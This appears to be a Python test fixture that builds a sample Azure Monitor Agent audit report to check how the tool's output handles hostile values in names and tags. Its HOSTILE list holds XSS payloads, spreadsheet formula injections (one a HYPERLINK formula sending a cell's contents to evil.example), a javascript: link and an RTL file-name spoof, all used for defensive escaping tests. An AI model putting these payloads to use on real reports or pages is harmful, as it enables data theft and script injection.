"""A realistic report, with names and tags that nobody should trust."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterable, Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from auditor.compose.finding_columns import finding_columns
from auditor.compose.wording import Wording
from auditor.model.remedy import Remedy
from auditor.model.report import (
    EXEMPTION_LISTS,
    LISTED_WHOLE,
    Banner,
    Card,
    Evidence,
    Finding,
    Group,
    Portion,
    Report,
    RuleNote,
)
from auditor.model.table import Cell, CellKind, Link, Table, TableColumn
from auditor.model.verdict import Severity, Status
from auditor.render.batch import batches
from auditor.render.folder import Format
from auditor.render.layout import layout
from auditor.render.text import printable

AS_OF = datetime(2026, 3, 2, 17, 30, tzinfo=UTC)
ZONE = "Asia/Tokyo"

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "bell\x07null\x00escape\x1b[2J",
    "half \ud83d pair",
    "txt.\u202egnp.exe",
    "_x0041_ stays _x003D_",
    "東京-本番-サーバー①",
    "#N/A",
    "1.30",
    "{{ 7*7 }}{% raw %}",
    "</style></title><!--",
    "a" * 33_000,
    "🗼" * 17_000,
)
"""Names as a machine, a tag or an error message may carry them."""

LONG_ID = (
    "/subscriptions/11111111-1111-1111-1111-111111111111/resourceGroups/"
    "rg-" + "a-very-long-resource-group-name-" * 2
    + "/providers/Microsoft.Compute/virtualMachines/{}/extensions/AzureMonitorLinuxAgent"
)  # fmt: skip

FIRST, SECOND = "11111111-1111-1111-1111-111111111111", "22222222-2222-2222-2222-222222222222"

STATUS_WORDS = {
    Status.FAIL: "Fails",
    Status.UNANSWERED: "Unanswered",
    Status.PENDING: "Pending",
    Status.EXEMPT: "Exempt",
    Status.NOT_APPLICABLE: "Not applicable",
    Status.PASS: "Passes",
}
KEYS = {
    **{word: str(status) for status, word in STATUS_WORDS.items()},
    **{label: label.lower() for label in ("Region", "Type", "Ended", "Outcome")},
    "Installed": "version",
    "Releases behind": "behind",
    "Count": "machines",
}
"""The keys that compose gives to columns from which charts are drawn, by their title."""
STATUS_COLUMNS = [f"{word}/number/14" for word in STATUS_WORDS.values()]
SEVERITY_WORDS = {severity: str(severity).capitalize() for severity in Severity}

VERSIONS = ("1.9.0", "1.10.0.1", "1.30.2", None)
TITLES = {
    "AMA-001": "Automatic upgrade is on",
    "AMA-002": "The agent is within 2 releases of its region's latest",
    "AMA-003": "No create or update operation failed without being healed",
}
SEVERITIES = {"AMA-001": Severity.HIGH, "AMA-002": Severity.MEDIUM, "AMA-003": Severity.HIGH}
REASONS = {
    Status.FAIL: "8 releases behind 1.38.1, and automatic upgrade is not on.",
    Status.UNANSWERED: "The extensions of this machine were not read (403).",
    Status.PENDING: "2 releases behind 1.38.1; automatic upgrade is on and the roll-out is under way.",
    Status.EXEMPT: "Excused until 2026-06-30: appliance, upgraded by its vendor (CHG-1042).",
    Status.NOT_APPLICABLE: "Stopped since 2026-01-12; a stopped machine is not upgraded until it runs again.",
    Status.PASS: "As expected.",
}
SHARES = (Status.PASS, Status.FAIL, Status.PASS, Status.PENDING, Status.PASS, Status.UNANSWERED, Status.NOT_APPLICABLE,
          Status.PASS, Status.FAIL, Status.EXEMPT)  # fmt: skip


def words() -> dict[str, str]:
    """The shipped catalogue's fixed words."""
    return dict(Wording("en", "UTC").words)


def evidence(**changes: object) -> Evidence:
    item = Evidence(
        "installed_version", "Installed version", "1.30.2", "1.30.2", "instance_view", AS_OF - timedelta(minutes=4)
    )
    return item._replace(**changes)  # type: ignore[arg-type]


COMMANDS = Remedy(
    "Turn on automatic upgrade with a PATCH of enableAutomaticUpgrade.",
    "the machine, Extensions + applications.",
    f"az rest --method patch --url '{LONG_ID.format('vm')}' --body '{{}}'",
    f"Invoke-AzRestMethod -Method PATCH -Path '{LONG_ID.format('vm')}' -Payload '{{}}'\n# <b> & 'two' \"lines\"",
)
"""Without steps: the scripts have tests of their own."""


KINDS = ("vm", "scale_set_instance", "arc", "scale_set")
"""What findings are on; a scale set stands for its model."""

IDS = {
    "vm": "Microsoft.Compute/virtualMachines/{0}",
    "scale_set_instance": "Microsoft.Compute/virtualMachineScaleSets/pool/virtualMachines/{0}",
    "arc": "Microsoft.HybridCompute/machines/{0}",
    "scale_set": "Microsoft.Compute/virtualMachineScaleSets/{0}",
}


def of_kind(kind: str, number: int = 0, **changes: object) -> Finding:
    """A failing verdict on a machine of ``kind``, or on the model of a scale set."""
    name = {"scale_set_instance": f"pool_{number}", "arc": f"srv-{number}", "scale_set": f"pool-{number}"}.get(
        kind, f"vm-{number}"
    )
    machine_id = f"/subscriptions/{FIRST}/resourceGroups/rg-app/providers/{IDS[kind].format(name)}"
    model = (
        {"availability": None, "installed_version": None, "installed_version_source": None}
        if kind == "scale_set"
        else {}
    )
    standard = {
        "machine_kind": kind,
        "machine_name": name,
        "machine_id": machine_id,
        "resource_id": f"{machine_id}/extensions/AMA",
        "portal": f"https://portal.azure.com/#@/resource{machine_id}",
        "installed_version_source": "arc" if kind == "arc" else "heartbeats",
        "evidence": (evidence(name="auto_upgrade", label="Automatic upgrade", value="disabled", shown="disabled",
                              source="resource_graph"),),
    }  # fmt: skip
    return finding(number, **{**standard, **model, **changes})


def finding(number: int = 0, rule_id: str = "AMA-002", status: Status = Status.FAIL, **changes: object) -> Finding:
    """One verdict; ``number`` makes its machine's name."""
    name = f"vm-app-{number:03}"
    unread = status is Status.UNANSWERED
    machine_id = LONG_ID.format(name).rsplit("/extensions", 1)[0]
    standard = Finding(
        rule_id=rule_id,
        status=status,
        severity=SEVERITIES.get(rule_id, Severity.LOW),
        reason_code={Status.FAIL: "behind_and_not_upgrading", Status.PASS: "as_expected"}.get(status, "other"),
        reason=REASONS[status],
        resource_id=LONG_ID.format(name),
        machine_id=machine_id,
        machine_name=name,
        machine_kind="vm",
        subscription_id=FIRST,
        subscription_name=("Payments", "Web shop", "会計システム")[number % 3],
        resource_group="rg-app",
        location=("japaneast", "westeurope")[number % 2],
        os="linux",
        availability="running",
        extension_publisher="Microsoft.Azure.Monitor",
        extension_type="AzureMonitorLinuxAgent",
        extension_name="AzureMonitorLinuxAgent",
        auto_upgrade=None if unread else ("unset", "disabled")[number % 2],
        auto_upgrade_minor=None if unread else True,
        requested_version=None if unread else "1.0",
        installed_version=None if unread else "1.30.2",
        installed_version_source=None if unread else "instance_view",
        installed_version_at=None if unread else AS_OF - timedelta(minutes=4),
        latest_version=None if unread else "1.38.1",
        releases_behind=None if unread else 8,
        evidence=(
            evidence(),
            evidence(name="latest_version", label="Latest in region", value="1.38.1", shown="1.38.1",
                     source="extension_versions"),
            evidence(name="auto_upgrade", label="Automatic upgrade", value="unset", shown="unset (the key is absent)"),
            evidence(name="last_operation", label="Last operation", source="activity_log",
                     value={"outcome": "failed", "started": "2026-02-27T01:10:00Z", "ended": "2026-02-27T01:16:00Z",
                            "initiator": "unknown", "caller": "unknown", "error_code": "VMExtensionProvisioningError"},
                     shown="failed 2026-02-27 10:16, initiator unknown: VMExtensionProvisioningError"),
        ),
        remediation="Turn on automatic upgrade with a PATCH of enableAutomaticUpgrade, in the portal under "
        "Extensions + applications.\nThen wait for the next roll-out.",
        change=None,
        first_seen=None,
        owner="team-payments",
        exemption="CHG-1042" if status is Status.EXEMPT else None,
        portal=f"https://portal.azure.com/#resource{machine_id}",
        remedy=COMMANDS if status is Status.FAIL else None,
    )  # fmt: skip
    return standard._replace(**changes)  # type: ignore[arg-type]


def findings(count: int = 60) -> list[Finding]:
    """Verdicts of every kind on ``count`` machines, gravest first, the hostile names among the failing."""
    made = [
        finding(number, rule_id, SHARES[(number + index * 3) % len(SHARES)])
        for number in range(count)
        for index, rule_id in enumerate(TITLES)
    ]
    order = list(Status)
    kinds = [of_kind(kind, number) for number in range(2) for kind in KINDS]
    return sorted([*hostile_findings(), *kinds, *made], key=lambda one: (order.index(one.status), one.rule_id))


def hostile_findings() -> list[Finding]:
    """A finding for each hostile text, which stands in every field that comes from the estate."""
    return [
        finding(900 + number, machine_name=text, subscription_name=text, extension_name=text, owner=text, reason=text,
                evidence=(evidence(value=text, shown=text), evidence(name="tags", value={text: text}, shown=text)))
        for number, text in enumerate(HOSTILE)
    ]  # fmt: skip


def groups(verdicts: Iterable[Finding], shown: int) -> tuple[Group, ...]:
    wanted = (Status.FAIL, Status.UNANSWERED, Status.PENDING, Status.EXEMPT)
    by_group: dict[tuple[Status, str], list[Finding]] = {}
    for one in verdicts:
        by_group.setdefault((one.status, one.rule_id), []).append(one)
    return tuple(
        Group(rule_id, status, STATUS_WORDS[status], SEVERITIES[rule_id], TITLES[rule_id],
              "Microsoft supports versions of the last year only, and an agent that stays behind stops being mended.",
              len(members), min(len(members), shown),
              "" if len(members) <= shown else f"{len(members) - shown} more are in the workbook.")
        for status in wanted for rule_id in TITLES if (members := by_group.get((status, rule_id)))
    )  # fmt: skip


def tables(verdicts: Sequence[Finding]) -> dict[str, Table]:
    """All tables, the hostile texts among the operations."""
    counts = Counter((one.rule_id, one.status) for one in verdicts)
    machine, agent = "vm-app-003", "AzureMonitorLinuxAgent"
    portal = "https://portal.azure.com/#resource/x"
    error = "VMExtensionProvisioningError: " + "Enable failed. " * 12
    refused = ("Machine list", SECOND, 403, "The identity may not read machines there.", "Assign Reader there.")
    made = [
        table("by_rule", "By rule", ["Rule/text/10", "Severity/severity/12", "Title/text/46", *STATUS_COLUMNS],
              [(rule, SEVERITIES[rule], text, *(counts[rule, one] for one in Status))
               for rule, text in TITLES.items()]),
        table("by_subscription", "By subscription", ["Subscription/text/26", *STATUS_COLUMNS],
              [("Payments", 8, 4, 6, 6, 6, 24), ("会計システム", 8, 4, 6, 6, 6, 24)]),
        table("by_version", "Versions by region",
              ["Region/text/16", "Type/text/28", "Installed/text/14", "Releases behind/number/12", "Count/number/12"],
              [("japaneast", agent, version, behind, number)
               for version, behind, number in (("1.38.1", 0, 21), ("1.37.0", 1, 9), ("1.30.2", 8, 6))],
              "One row for each installed version in each region, newest first."),
        table("adoption", "Adoption", ["Region/text/26", "Latest/number/14", "1 behind/number/14", "2 behind/number/14",
                                       "3 or more behind/number/14", "Not known/number/14"],
              [("japaneast", 21, 9, 0, 6, 0), ("westeurope", 4, 0, 0, 0, 2)]),
        table("machines", "Machines",
              ["Machine/text/24", "Kind/text/20", "Installed/version/14", "Last ran/time/18", "Portal/link/10"],
              [(text, "Virtual machine", version, AS_OF, Link("Portal", portal))
               for text, version in zip(HOSTILE, VERSIONS * 5, strict=True)]),
        table("failed_operations", "Failed operations",
              ["Ended/time/17", "Machine/text/24", "Type/text/26", "By/text/12", "Error/long/60", "Portal/link/10"],
              [(AS_OF - timedelta(days=3), machine, agent, "unknown", error, Link("Portal", portal)),
               (datetime(1, 1, 1, tzinfo=UTC), HOSTILE[0], HOSTILE[2], "platform", HOSTILE[9],
                Link("Portal", "javascript:alert(1)"))]),
        table("rules", "Rules", ["Rule/text/10", "Title/long/40", *STATUS_COLUMNS],
              [(rule, text, *(counts[rule, one] for one in Status)) for rule, text in TITLES.items()]),
        table("operations", "Failed operations",
              ["Ended/time/17", "Machine/text/24", "Outcome/text/26", "By/text/12", "Error/long/60", "Portal/link/10"],
              [(AS_OF - timedelta(days=3), machine, agent, "unknown", error, Link("Portal", portal)),
               (datetime(1, 1, 1, tzinfo=UTC), HOSTILE[0], HOSTILE[2], "platform", HOSTILE[9],
                Link("Portal", "javascript:alert(1)"))]),
        table("departed", "No longer failing",
              ["Change/text/18", "Rule/text/10", "Machine/text/20", "First seen/time/17", "Last reason/long/60"],
              [("fixed", "AMA-001", machine, AS_OF - timedelta(days=9), HOSTILE[3])]),
        table("kinds", "Machines by kind",
              ["Kind/text/26", *(f"{word}/number/12" for word in ("Machines", "Running", "Stopped", "Expired"))],
              [("Virtual machine", 48, 40, 8, 0), ("Arc-enabled server", 9, 7, None, 2),
               ("Scale sets", 3, None, None, None)]),
        table("coverage", "What each source told of them",
              ["Kind/text/26", "Source/text/28",
               *(f"{word}/number/12" for word in ("Machines", "Answered", "Not asked"))],
              [("Virtual machine", "Extension list", 48, 46, 0), ("Arc-enabled server", "Extension list", 9, 9, 0)]),
        table("states", "Subscriptions by what became of them", ["State/text/30", "Number/number/10", "Among/long/48"],
              [("Read", 3, "Payments, Web shop …"), ("Refused", 1, "会計システム")]),
        table("outside", "What stands outside", ["What/text/48", "Number/number/10", "Of/number/10"],
              [("Machines that a service manages", 12, 57)]),
        table("set_aside", "Managed machines and expired servers",
              ["Why/text/30", "Machine/text/24", "Kind/text/22", "Subscription/text/24"],
              [("Managed by AKS", "aks-nodepool1-0", "Virtual machine", "Payments"),
               ("Expired", HOSTILE[0], "Arc-enabled server", HOSTILE[2])]),
        table("subscriptions", "Subscriptions",
              ["Subscription/text/26", "Id/text/38", "State/text/12", "Read/text/10", "Machines/number/10"],
              [("Payments", FIRST, "Enabled", True, 24), ("会計システム", SECOND, "Enabled", False, None)]),
        table("gaps", "What was not read",
              ["Source/text/20", "Scope/text/40", "Status/number/8", "Why/long/50", "What would close it/long/50"],
              [refused, ("Heartbeats", "ws-1", None, "The answer was partial.", "Run again later.")]),
        table("unseen", "Machines without an answer",
              ["Machine/text/24", "Subscription/text/24", "What/status/15", "Why/long/50"],
              [(machine, "Payments", Status.UNANSWERED, "Its extensions were not read."),
               ("vm-app-017", "Web shop", "no agent", "It has no Azure Monitor Agent.")]),
        table("accepted_gaps", "Accepted gaps",
              ["Scope/text/40", "Owner/text/20", "Until/text/12", "Standing/text/20"],
              [(SECOND, HOSTILE[1], "2027-01-31", "in force")]),
        table("readings", "Readings",
              ["Source/text/28", "Scope/text/60", "Complete/text/10", "Rows/number/8", "Read at/time/17"],
              [("Machine with instance view", LONG_ID.format(machine), True, 3, AS_OF)] * 40),
        table("exemptions", "Exemptions",
              ["Rule/text/10", "Resource/text/40", "Owner/text/20", "Expires/time/17"], []),
        *(table(f"exemptions_{name}", name.capitalize(), ["Rule/text/10", "Owner/text/20"],
                [("AMA-001", HOSTILE[0])]) for name in EXEMPTION_LISTS),
        table("about", "About this report", ["What/text/30", "Value/long/60"],
              [("Tool", "azure-extension-auditor 0.1.0"), ("Requests", 412), ("As of", AS_OF)]),
    ]  # fmt: skip
    return {one.name: one for one in made}


def fitting_names() -> list[str]:
    """The hostile texts that a cell can hold, as a program that reads the cell should show them."""
    return [printable(text).replace("\r", "\n") for text in HOSTILE if len(text) < 17_000]


def table(name: str, title: str, columns: Sequence[str], rows: Sequence[tuple[Cell, ...]], note: str = "") -> Table:
    """A table; each of ``columns`` is "label/kind/width"."""
    parts = [column.split("/") for column in columns]
    made = tuple(TableColumn(KEYS.get(label, label), label, CellKind(kind), int(width)) for label, kind, width in parts)
    return Table(name, title, made, lambda: iter(rows), note, f"There is nothing to tell of: {title}.")


def report(count: int = 60, *, shown: int = 500, verdicts: Sequence[Finding] | None = None) -> Report:
    """The sample night over ``count`` machines; ``shown`` findings of a group are on the page."""
    made = findings(count) if verdicts is None else list(verdicts)
    totals = Counter(one.status for one in made)
    tones = {Status.FAIL: "bad", Status.UNANSWERED: "warn", Status.PASS: "good"}
    rules = tuple(
        RuleNote(rule_id, title, SEVERITIES[rule_id], "An agent that nobody upgrades falls behind without a sound.",
                 "releases_behind is at most 2", (("releases", "2"),),
                 (("behind_and_not_upgrading", "{releases_behind} releases behind, and automatic upgrade is not on."),
                  ("upgrade_overdue", "Automatic upgrade is on, and the roll-out is over.")),
                 ("https://learn.microsoft.com/azure/azure-monitor/agents/azure-monitor-agent-extension-versions",),
                 Counter(one.status for one in made if one.rule_id == rule_id))
        for rule_id, title in TITLES.items()
    )  # fmt: skip
    return Report(
        title="Azure Monitor Agent, nightly audit",
        subtitle="Contoso, 4 subscriptions",
        language="en",
        words=words(),
        headline=f"{totals[Status.FAIL]} findings need action, and one subscription could not be read",
        tone="bad",
        summary=f"{count} machines in 3 of 4 subscriptions were judged; {totals[Status.PASS]} verdicts pass.",
        banner=Banner(
            "This audit is incomplete: 1 of 4 subscriptions was not read",
            ("会計システム (2222…): refused (403); assign Reader to close the gap.", f"Machine {HOSTILE[0]}: 500."),
        ),
        cards=tuple(Card(str(one), STATUS_WORDS[one], totals[one], "", tones.get(one, "calm")) for one in Status),
        groups=groups(made, shown),
        rules=rules,
        tables=tables(made),
        verdicts=lambda: [Portion(made)],
        findings_total=len(made),
        left_out="" if len(made) <= LISTED_WHOLE else "Those that pass are in verdicts.parquet.",
        status_words=STATUS_WORDS,
        severity_words=SEVERITY_WORDS,
        time_zone=ZONE,
        as_of=AS_OF,
        run={"tool": "azure-extension-auditor 0.1.0", "run_id": "20260302T173000Z-1f3a", "as_of": AS_OF, "counts": {}},
        finding_columns=finding_columns(Wording("en", ZONE)),
    )


def empty_report() -> Report:
    """A night over an estate with nothing in it: every table empty, nothing found, nothing missing."""
    return replace(
        report(verdicts=()),
        headline="Nothing needs action",
        summary="No machine was found in 1 subscription.",
        tone="good",
        banner=None,
        tables={name: replace(one, rows=tuple) for name, one in tables(()).items()},
    )


def position_of(key: str) -> int:
    """Where a column of the findings stands on their worksheet: each version has the key that it sorts by behind it."""
    keys = {column.key: column.kind for column in finding_columns(Wording("en", ZONE))}
    slots = [name for each in layout().findings
             for name in ([each, f"{each}_key"] if keys[each] is CellKind.VERSION else [each])]  # fmt: skip
    return slots.index(key)


def write(form: Format, report: Report, path: Path) -> None:
    """One format by itself, as the folder writes it."""
    with form(report, path) as take:
        for batch in batches(report.verdicts()):
            take(batch)
